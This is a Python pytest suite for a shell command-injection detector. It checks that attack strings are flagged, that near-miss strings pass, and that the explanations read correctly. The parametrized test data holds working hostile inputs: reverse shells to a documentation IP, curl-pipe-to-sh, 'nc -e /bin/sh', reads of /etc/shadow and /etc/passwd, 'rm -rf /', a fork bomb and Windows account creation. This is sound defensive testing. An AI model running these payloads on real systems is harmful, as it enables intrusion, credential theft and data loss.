from __future__ import annotations

from pathlib import Path

import msgspec
import pytest
from gatelens.inspectors.os_command import Params
from gatelens.languages.shell.confinement import Budget, Place, injection
from gatelens.languages.shell.names import Names
from hypothesis import given
from hypothesis import strategies as st
from ruamel.yaml import YAML

RULE = YAML(typ="safe").load(Path(__file__).parents[3] / "rules/injection/os-command.yaml")
PARAMS = msgspec.convert(RULE["params"], Params)
NAMES = Names(PARAMS.unix, PARAMS.windows, PARAMS.everyday, PARAMS.files)


def why(text: str, place: Place = Place.DATA) -> str:
    """Why `text` is an injection; empty where it is none."""
    found = injection(text, NAMES, place, Budget(100_000))
    return found.explanation if found else ""


@pytest.mark.parametrize(
    ("attack", "near"),
    [
        ("zz;whoami", "zz;whose"),
        ("zz | ls -la", "zz | lists"),
        ("zz; find / -name x", "zz; find the name"),
        ("zz; cat /etc/group", "zz; cat people"),
        ("zz`id`", "zz `id` is a column"),
        ("zz$(sleep 7)", "zz$(element)"),
        ("zz\nuname -a", "zz\nname: a\nb\nc"),
        ("'; id; '", "'; ok; '"),
        (";c'a't zz", ";'a cat' zz"),
        (";/b?n/ls", ";/v?n/ls"),
        ("& dir c:\\", "& directory c"),
        ("| type c:\\boot.ini", "| type of boots"),
        ("cat /etc/shadow", "cat /srv/shadow"),
        ("bash -i >& /dev/tcp/192.0.2.7/1 0>&1", "bash -i > /dev/null 0>&1"),
        ("curl http://192.0.2.7/zz | sh", "curl http://192.0.2.7/zz | jq"),
        ("echo aWQ= | base64 -d | sh", "echo aWQ= | base64 -d > zz"),
        ("nc 192.0.2.7 80 -e /bin/sh", "nc 192.0.2.7 80"),
        ("rm -rf /", "rm -rf build"),
        ('cat "/etc/passwd"', 'cat "$ROOT/etc/passwd"'),
        ("for %a in (b) do del %a", "for a in (b) do it"),
        ('if "%1"=="a" goto b', 'if (a == "b") { go(); }'),
        (";if [ 1 ];then sleep 7;fi", ";if it is so then sleep"),
        ("zz(){ zz|zz& };zz", "zz(){ zz; };zz"),
        ("name;id", "name;id;date"),
        ("& reg query HKLM", "& reg query it"),
        ("\nid", "\nidle"),
        (";time id", ";time is up"),
        (";python3 -c 'x=1'", "python3 -c 'x=1'"),
    ],
)
def test_an_attack_is_told_from_what_is_nearly_one(attack: str, near: str) -> None:
    assert why(attack)
    assert not why(near)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("zz;whoami", "ends the command with a semicolon: tells about the system; POSIX shell"),
        ("zz|curl http://192.0.2.7", "pipes the command into another: downloads a file; POSIX shell"),
        ("$(sleep 7)", "substitutes the output of a command: waits; POSIX shell"),
        (";sudo chmod 777 /srv", "runs through another command one that changes accounts, rights or settings"),
        (";bash -c 'cat /etc/shadow'", "runs a shell that reads a file, of a telling file"),
        ("& dir c:\\", "puts another command behind an ampersand: tells about the system"),
        ("& net user zz zz /add", "changes accounts, rights or settings, as attacks do; Windows cmd"),
        (";who$@ami", "its name hidden by expansions that are empty"),
    ],
)
def test_the_explanation_says_how_and_what(text: str, words: str) -> None:
    assert words in why(text)


def test_a_command_behind_a_sentence_must_do_what_attacks_do() -> None:
    sentence = "the quick brown fox jumps over the lazy dog"
    assert not why(f"{sentence}; ls -la")
    assert why(f"{sentence}; cat /etc/shadow")
    assert not why(f"{sentence} `cat /etc/shadow`")


def test_a_command_line_goes_on_with_commands() -> None:
    assert not why("make all; ls -la")
    assert why("value; ls -la")
    assert not why("a=1; ls -la")


def test_a_field_of_commands_by_design_takes_all_but_the_unmistakable() -> None:
    assert not why("zz; cat /etc/shadow", Place.BY_DESIGN)
    assert why("zz; nc 192.0.2.7 80 -e /bin/sh", Place.BY_DESIGN)


@pytest.mark.parametrize(
    ("attack", "near"),
    [
        ("a=b | stats count | head /etc/shadow", "a=b | stats count by c | sort -count | head 7"),
        ("zz | tail -7", 'Zz | where a == "b" | sort by c | take 7'),
        ("zz; sh", "bash; sh; zsh"),
        ("zz; id; whoami", "cp; mv; ln"),
    ],
)
def test_queries_lists_and_paths_are_no_command_lines(attack: str, near: str) -> None:
    assert why(attack, Place.LINE)
    assert not why(near, Place.LINE)


def test_what_cmd_has_built_in_is_not_called_by_a_path() -> None:
    assert why("dir c:\\zz", Place.NO_COMMANDS)
    assert not why("/zz/dir a/zz's.jpg", Place.NO_COMMANDS)


def test_where_no_command_has_a_place_a_whole_command_line_is_one() -> None:
    assert not why("perf stat -a")
    assert why("perf stat -a", Place.NO_COMMANDS)
    assert not why("Mozilla/5.0 (X11; Linux x86_64)", Place.NO_COMMANDS)


def test_a_plus_may_stand_for_a_space_and_a_quote_may_be_escaped() -> None:
    found = injection("|getent+hosts+zz.example.net", NAMES, Place.DATA, Budget(1000))
    assert found is not None
    assert found.steps == ("plus",)
    found = injection("a=\\'whoami\\';$a", NAMES, Place.DATA, Budget(1000))
    assert found is not None
    assert found.steps == ("backslash-escape",)


def test_more_places_than_are_read_are_a_match() -> None:
    assert why(";ls+" * 20).endswith("in more places than are read")
    assert not why("x; y" * 20)


def test_a_script_of_many_lines_is_none() -> None:
    assert not why("#!/bin/sh\nset -e\ncd /srv\nls -la; whoami\nid\n")
    assert not why("steps:\n- one\n- two\n\nls -la\nwhoami\n")


@given(st.text(alphabet="ls id;|&$(){}`'\"\\\n/*?^%+=<>-cat", max_size=300), st.sampled_from(Place))
def test_judging_never_raises(text: str, place: Place) -> None:
    why(text, place)


@pytest.mark.parametrize(
    "piece", [";", "; ls the of ", "$(", "x`ls the ", "'", ";{a,", "\n", "if a== ", "&w^h", ";l's' a "]
)
def test_the_budget_spent_grows_with_the_text_only(piece: str) -> None:
    text = piece * 4_000
    budget = Budget(0)
    injection(text, NAMES, Place.DATA, budget)
    assert -budget.left <= 3 * len(text) + 64 * 1024
